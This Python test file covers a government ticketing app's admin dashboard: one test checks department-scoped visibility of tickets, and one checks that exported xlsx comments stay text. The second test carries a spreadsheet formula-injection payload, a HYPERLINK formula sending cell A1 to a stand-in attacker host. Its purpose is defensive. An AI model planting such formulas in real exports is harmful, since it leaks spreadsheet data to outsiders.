"""Department heads see only their department everywhere; exported cells never become formulas (issue 15)."""

from __future__ import annotations

import io
from collections.abc import AsyncIterator
from typing import Any

import pytest
from aiohttp.test_utils import TestClient, TestServer
from openpyxl import load_workbook

from admin.accounts import create_account, parse_roles
from govchat.app import create_app
from govchat.runtime import Runtime, build_runtime
from kernel.config import Settings
from kernel.identity import Actor, Role
from tests.support.admin_rig import PASSWORD, login, seed, seed_rated_tickets

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


@pytest.fixture
async def rt(sqlite_settings: Settings, clock: Any) -> AsyncIterator[Runtime]:
    runtime = await build_runtime(sqlite_settings, clock=clock, load_model=False)
    await seed(runtime)
    yield runtime
    await runtime.close()


async def _serve(rt: Runtime) -> TestClient[Any, Any]:
    client: TestClient[Any, Any] = TestClient(TestServer(create_app(rt, background=False)))
    await client.start_server()
    return client


async def test_a_head_sees_only_their_departments_tickets(rt: Runtime) -> None:
    codes = await seed_rated_tickets(rt)  # all handled by 城管局 (MJ-CGJ)
    all_codes = codes["good"] + codes["bad"]
    async with rt.db.session() as s:
        await create_account(
            s, "wangqiang", parse_roles("department_head"), now=rt.clock.now(), password=PASSWORD, person_code="MJ003"
        )
        await create_account(
            s, "cg-head", parse_roles("department_head"), now=rt.clock.now(), password=PASSWORD, person_code="MJ090"
        )
    client = await _serve(rt)
    try:
        await login(client, "wangqiang")  # 区政府办主任: not 城管局
        html = await (await client.get("/admin/dashboard/topic", params={"codes": ",".join(all_codes)})).text()
        assert "夜间施工噪音扰民" not in html and not any(c in html for c in all_codes)
        html = await (
            await client.get("/admin/dashboard/drill", params={"metric": "satisfaction", "department": "MJ-CGJ"})
        ).text()
        assert not any(c in html for c in all_codes)
        dash = await (await client.get("/admin/dashboard")).text()
        assert not any(c in dash for c in all_codes)
        await login(client, "cg-head")
        html = await (await client.get("/admin/dashboard/topic", params={"codes": ",".join(all_codes)})).text()
        assert all(c in html for c in all_codes)
        await login(client, "supervisor")
        html = await (await client.get("/admin/dashboard/topic", params={"codes": ",".join(all_codes)})).text()
        assert all(c in html for c in all_codes)
    finally:
        await client.close()


async def test_exported_comments_starting_with_a_formula_sign_stay_text(rt: Runtime) -> None:
    codes = await seed_rated_tickets(rt)
    # a second bad rating, after rectification, carries a formula as its comment
    ident = rt.bot.services.identity
    head = await ident.whois("web", "demo-hejianxin")
    bad = codes["bad"][0]
    await rt.tickets.record_callback(bad, head, "已回访")
    await rt.tickets.rectified(bad, head, "已整改")
    await rt.tickets.rate(bad, Actor("rest", "rater-2", frozenset({Role.CITIZEN})), 1, FORMULA)
    client = await _serve(rt)
    try:
        await login(client, "supervisor")
        resp = await client.get("/admin/dashboard/export/bad.xlsx")
        assert resp.status == 200
        ws = load_workbook(io.BytesIO(await resp.read())).active
        cells = [c for row in ws.iter_rows() for c in row if c.value == FORMULA]
        assert cells and all(c.data_type == "s" for c in cells)
    finally:
        await client.close()
